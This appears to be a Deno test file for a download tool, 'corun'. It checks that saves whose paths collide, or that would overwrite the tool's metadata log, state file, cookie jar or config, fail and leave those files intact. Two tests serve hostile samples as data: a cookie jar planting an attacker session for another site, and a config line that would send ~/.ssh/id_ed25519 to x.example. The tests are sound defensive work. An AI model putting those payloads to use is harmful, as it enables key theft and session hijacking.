/**
 * Two tasks whose `save` renders one path: the second fails naming both, and the first one's file
 * stays as it was. Collisions the config alone shows (literal saves, templates the task's own URLs
 * render) are config errors (lib/config/save_collisions_test.ts): these are the ones only the
 * responses (`{ext}` from a Content-Type, `{filename}`) or a list's lines show.
 */
import { assert, assertEquals } from "npm:deno-std@1.4.0/assert/mod.js";
import { call, defineConfig, fetchTask, run, task } from "../mod.ts";
import { startRouteServer } from "./fixtures/route_server.ts";
import { withTempDir } from "./fixtures/temp_dir.ts";

const withOutDir = withTempDir("corun-collision-");

Deno.test("/page?id=1 and /page?id=2 under {host}/{path}.{ext}, {ext} from the Content-Type: the second fails naming both tasks and the path; the first body stays", async () => {
  await using server = startRouteServer({
    "/page": (request) => ({ body: `body of ${request.path}` }),
  });
  await withOutDir(async (outDir) => {
    const report = await run(
      defineConfig({
        outDir,
        concurrency: 1,
        tasks: [
          fetchTask("first", server.url("/page?id=1"), { save: "{host}/{path}.{ext}" }),
          fetchTask("second", server.url("/page?id=2"), { save: "{host}/{path}.{ext}" }),
        ],
      }),
      { state: false },
    );
    const host = `127.0.0.1_${new URL(server.url()).port}`;
    assertEquals(report.tasks.map((task) => task.outcome), ["done", "failed"]);
    const error = report.tasks[1].error!;
    assertEquals(error.code, "SAVE_COLLISION");
    assert(error.message.includes(`"${host}/page.bin"`), error.message);
    assert(error.message.includes('task "second"'), error.message);
    assert(error.message.includes('task "first"'), error.message);
    assertEquals(await Deno.readTextFile(`${outDir}/${host}/page.bin`), "body of /page?id=1");
    const lines = (await Deno.readTextFile(`${outDir}/corun.jsonl`)).trim().split("\n");
    assertEquals(lines.map((line) => JSON.parse(line).error?.code), [undefined, "SAVE_COLLISION"]);
  });
});

Deno.test("two list tasks whose lines name one save path: the second fails naming both; the first body stays", async () => {
  await using server = startRouteServer({
    "/a": { body: "body of a" },
    "/b": { body: "body of b" },
  });
  await withOutDir(async (outDir) => {
    await Deno.writeTextFile(`${outDir}/a.txt`, `${server.url("/a")}\tshared.txt\n`);
    await Deno.writeTextFile(`${outDir}/b.txt`, `${server.url("/b")}\tshared.txt\n`);
    const report = await run(
      defineConfig({
        outDir,
        tasks: [
          { name: "list-a", fetch: { urls: `${outDir}/a.txt` } },
          { name: "list-b", fetch: { urls: `${outDir}/b.txt` }, after: ["list-a"] },
        ],
      }),
      { state: false },
    );
    assertEquals(report.tasks.map((task) => task.outcome), ["done", "failed"]);
    assertEquals(report.tasks[1].error?.code, "SAVE_COLLISION");
    assert(
      report.tasks[1].error!.message.includes('task "list-a"'),
      report.tasks[1].error!.message,
    );
    assertEquals(await Deno.readTextFile(`${outDir}/shared.txt`), "body of a");
  });
});

Deno.test("a {filename} that is corun's own metadata file fails the task; the log stays a log", async () => {
  await using server = startRouteServer({ "/corun.jsonl": { body: "not a metadata line\n" } });
  await withOutDir(async (outDir) => {
    const report = await run(
      defineConfig({
        outDir,
        tasks: [fetchTask("clobber", server.url("/corun.jsonl"), { save: "{filename}" })],
      }),
      { state: false },
    );
    assertEquals(report.tasks[0].outcome, "failed");
    assert(report.tasks[0].error!.message.includes("corun's metadata log"));
    const log = await Deno.readTextFile(`${outDir}/corun.jsonl`);
    assertEquals(JSON.parse(log.trim()).task, "clobber");
  });
});

Deno.test("{uuid} saves of one URL never collide", async () => {
  await using server = startRouteServer({ "/same": { body: "same" } });
  await withOutDir(async (outDir) => {
    const report = await run(
      defineConfig({
        outDir,
        tasks: ["a", "b", "c"].map((name) =>
          fetchTask(name, server.url("/same"), { save: "copies/{uuid}.txt" })
        ),
      }),
      { state: false },
    );
    assertEquals(report.counts.done, 3);
    let files = 0;
    for await (const _ of Deno.readDir(`${outDir}/copies`)) files++;
    assertEquals(files, 3);
  });
});

Deno.test("a save inside corun's metadata log, or one that would be its folder, fails the task; the log keeps its lines", async (t) => {
  const cases = [
    { what: "{path} of /corun.jsonl/page", url: "/corun.jsonl/page", save: "{path}" },
    { what: "{path}/{uuid} of /corun.jsonl", url: "/corun.jsonl", save: "{path}/{uuid}" },
    { what: "{path}/{sha256} of /CORUN.jsonl", url: "/CORUN.jsonl", save: "{path}/{sha256}" },
    { what: "{path} of /logs under metadata: logs/run.jsonl", url: "/logs", save: "{path}" },
  ];
  for (const { what, url, save } of cases) {
    await t.step(what, async () => {
      await using server = startRouteServer({ [url]: { body: "a page" } });
      await withOutDir(async (outDir) => {
        const metadata = url === "/logs" ? "logs/run.jsonl" : "corun.jsonl";
        // A list's URLs are the run's to check: the same URL as the task's own is a config error.
        const list = `${outDir}/urls.txt`;
        await Deno.writeTextFile(list, `${server.url(url)}\n`);
        const report = await run(
          defineConfig({
            outDir,
            metadata,
            tasks: [{ name: "clobber", fetch: { urls: list }, save }],
          }),
          { state: false },
        );
        assertEquals(report.tasks[0].outcome, "failed");
        assertEquals(report.tasks[0].error?.code, "SAVE_COLLISION");
        assert(report.tasks[0].error!.message.includes("corun's metadata log"));
        assertEquals(report.warnings, []);
        const log = await Deno.readTextFile(`${outDir}/${metadata}`);
        assertEquals(JSON.parse(log.trim()).error.code, "SAVE_COLLISION");
      });
    });
  }
});

Deno.test("a save inside corun's state file fails the task; the state is saved", async () => {
  await using server = startRouteServer({
    "/a": { body: "a", headers: { ETag: '"a"' } },
    "/.corun-state.json/page": { body: "a page" },
  });
  await withOutDir(async (outDir) => {
    // A listed URL: the task's own would be a config error (saved inside the state file).
    const list = `${outDir}/urls.txt`;
    await Deno.writeTextFile(list, `${server.url("/.corun-state.json/page")}\n`);
    const report = await run(
      defineConfig({
        outDir,
        tasks: [
          fetchTask("a", server.url("/a"), { save: "a" }),
          { name: "clobber", fetch: { urls: list }, save: "{path}" },
        ],
      }),
    );
    assertEquals(report.tasks.map((task) => task.outcome), ["done", "failed"]);
    assertEquals(report.tasks[1].error?.code, "SAVE_COLLISION");
    assertEquals(report.warnings, []);
    const state = JSON.parse(await Deno.readTextFile(`${outDir}/.corun-state.json`));
    assertEquals(state.entries[server.url("/a")].etag, '"a"');
  });
});

Deno.test("a {filename} that is the cookie jar file fails the task: a server cannot choose the cookies the next run sends", async () => {
  // A jar that plants a session cookie for another site, served under the jar file's name.
  const planted = JSON.stringify({
    format: "corun-cookie-jar",
    version: 1,
    cookies: [{
      name: "planted",
      value: "attacker-session",
      domain: "victim.test",
      hostOnly: false,
      path: "/",
      expiresMs: null,
      secure: false,
      httpOnly: false,
      sameSite: null,
      createdMs: 0,
      lastAccessMs: 0,
    }],
  });
  await using server = startRouteServer({
    "/login": { headers: { "Set-Cookie": "sid=mine; Path=/" } },
    "/download": {
      headers: { "Content-Disposition": 'attachment; filename="cookies.json"' },
      body: planted,
    },
  });
  await withOutDir(async (outDir) => {
    const report = await run(
      defineConfig({
        outDir,
        cookies: `${outDir}/cookies.json`,
        tasks: [
          fetchTask("login", server.url("/login")),
          fetchTask("download", server.url("/download"), { save: "{filename}", after: ["login"] }),
        ],
      }),
      { state: false },
    );
    assertEquals(report.tasks.map((task) => task.outcome), ["done", "failed"]);
    assertEquals(report.tasks[1].error?.code, "SAVE_COLLISION");
    assert(report.tasks[1].error!.message.includes("corun's cookie jar"));
    const jar = JSON.parse(await Deno.readTextFile(`${outDir}/cookies.json`));
    assertEquals(jar.cookies.map((cookie: { name: string }) => cookie.name), ["sid"]);
  });
});

Deno.test("a {filename} that is the config file, in an outDir that holds it, fails the task: a server cannot choose what the next run does", async () => {
  await using server = startRouteServer({
    "/download": {
      headers: { "Content-Disposition": 'attachment; filename="corun.yaml"' },
      body:
        "tasks: [{ name: planted, fetch: { url: https://x.example/, body: { file: ~/.ssh/id_ed25519 } } }]\n",
    },
  });
  await withOutDir(async (dir) => {
    const config = `outDir: .\ntasks:\n  - { name: download, fetch: "${
      server.url("/download")
    }", save: "{filename}" }\n`;
    await Deno.writeTextFile(`${dir}/corun.yaml`, config);
    const report = await run(`${dir}/corun.yaml`, { state: false });
    assertEquals(report.tasks[0].outcome, "failed");
    assertEquals(report.tasks[0].error?.code, "SAVE_COLLISION");
    assert(report.tasks[0].error!.message.includes("it is the config file"));
    assertEquals(await Deno.readTextFile(`${dir}/corun.yaml`), config);
  });
});

Deno.test("/page?id=1 saved, then /page?id=2 of the same task breaks off: the path stays the task's, a later task fails naming it, the saved body stays", async () => {
  await using server = startRouteServer({
    "/page": (request) =>
      request.path.endsWith("id=2")
        // Fewer bytes than said, then the connection closes: the body breaks off after its claim.
        ? { headers: { "Content-Length": "100", Connection: "close" }, body: "cut" }
        : { body: `body of ${request.path}` },
  });
  await withOutDir(async (outDir) => {
    const host = `127.0.0.1_${new URL(server.url()).port}`;
    await Deno.writeTextFile(
      `${outDir}/first.txt`,
      `${server.url("/page?id=1")}\n${server.url("/page?id=2")}\n`,
    );
    // A task after "first" would be skipped (it fails): this one waits for its end instead.
    const firstEnded = Promise.withResolvers<void>();
    const report = await run(
      defineConfig({
        outDir,
        concurrency: 1,
        metadata: false,
        defaults: { retries: 0 },
        tasks: [
          { name: "first", fetch: { urls: `${outDir}/first.txt` }, save: "{host}/{path}" },
          task("second", function* (ctx) {
            yield* call(() => firstEnded.promise, "the end of task first");
            yield* ctx.enqueue(server.url("/page?id=3"), { save: `${host}/page` });
          }),
        ],
      }),
      {
        state: false,
        onEvent: (event) => {
          if (event.type === "task-end" && event.result.name === "first") firstEnded.resolve();
        },
      },
    );
    assertEquals(
      report.tasks.map((task) => [task.name, task.outcome, task.error?.code]),
      [["first", "failed", "EARLY_EOF"], ["second", "failed", "SAVE_COLLISION"]],
    );
    assert(report.tasks[1].error!.message.includes('task "first"'), report.tasks[1].error!.message);
    assertEquals(await Deno.readTextFile(`${outDir}/${host}/page`), "body of /page?id=1");
  });
});
